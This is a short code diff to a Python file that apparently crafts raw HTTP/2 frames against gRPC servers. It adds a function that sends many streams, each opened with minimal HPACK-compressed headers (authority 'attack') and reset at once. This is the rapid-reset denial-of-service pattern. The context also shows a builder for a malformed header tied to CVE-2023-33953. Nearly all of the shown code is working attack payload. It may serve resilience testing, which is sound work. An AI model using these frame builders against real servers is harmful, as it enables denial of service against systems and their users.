@@ -23,6 +23,16 @@ def call_headers(method):
     return b"".join(header(*field) for field in fields)
 
 
+def resets(method, first, count):
+    """Frames of `count` calls, each reset as soon as it begins, in as few bytes as can be: 28 a call. The first of a connection puts its headers into HPACK's table."""
+    named = b"\x83\x86" + b"".join(b"\x40" + header(name, value)[1:] for name, value in (
+        (b":path", method.encode()), (b":authority", b"attack"), (b"te", b"trailers"), (b"content-type", b"application/grpc")))
+    by_index = b"\x83\x86\xc1\xc0\xbf\xbe"
+    return b"".join(
+        frame(HEADERS, END_HEADERS, stream, named if stream == 1 else by_index) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
+        for stream in range(first, first + 2 * count, 2))
+
+
 def padded_header(num_bytes):
     """Frames of one header whose index is a number with so many leading zeros and no end (CVE-2023-33953)."""
     size = 16384
